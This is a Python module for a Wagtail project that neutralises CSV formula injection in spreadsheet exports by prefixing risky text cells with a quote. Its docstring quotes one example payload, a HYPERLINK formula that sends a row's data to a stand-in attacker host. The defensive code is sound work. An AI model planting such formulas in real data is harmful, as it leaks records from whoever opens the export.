"""Spreadsheet exports that a spreadsheet program cannot run as formulas.

A CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read as a formula by Excel, LibreOffice and Google Sheets: a user who
names themself ``=HYPERLINK("http://evil.example/?"&A2,"Open")`` would get a
clickable link that sends the row to another site from the report of whoever
opens the export. OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection):
prefix such a text cell with a single quote so it is shown as text. Numbers stay
numbers. XLSX is safe already: Wagtail writes every formula-looking cell as text.

Every view of this package that exports a spreadsheet mixes in
:class:`FormulaSafeExportMixin`.
"""

from __future__ import annotations

from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeExportMixin:
    """Mix in before Wagtail's ``SpreadsheetExportMixin`` (or a view built on it).

    Neutralises every text cell of the CSV export, the heading row included;
    the XLSX export is left to Wagtail, which already stores such cells as text.
    """

    def write_csv_row(self, writer, row_dict):
        cells = {
            field: neutralise(self.preprocess_field_value(field, value, self.FORMAT_CSV))
            for field, value in row_dict.items()
        }
        return writer.writerow(cells)

    def get_heading(self, queryset, field):
        heading = super().get_heading(queryset, field)
        if self.request.GET.get("export") == self.FORMAT_CSV:
            return neutralise(heading)
        return heading
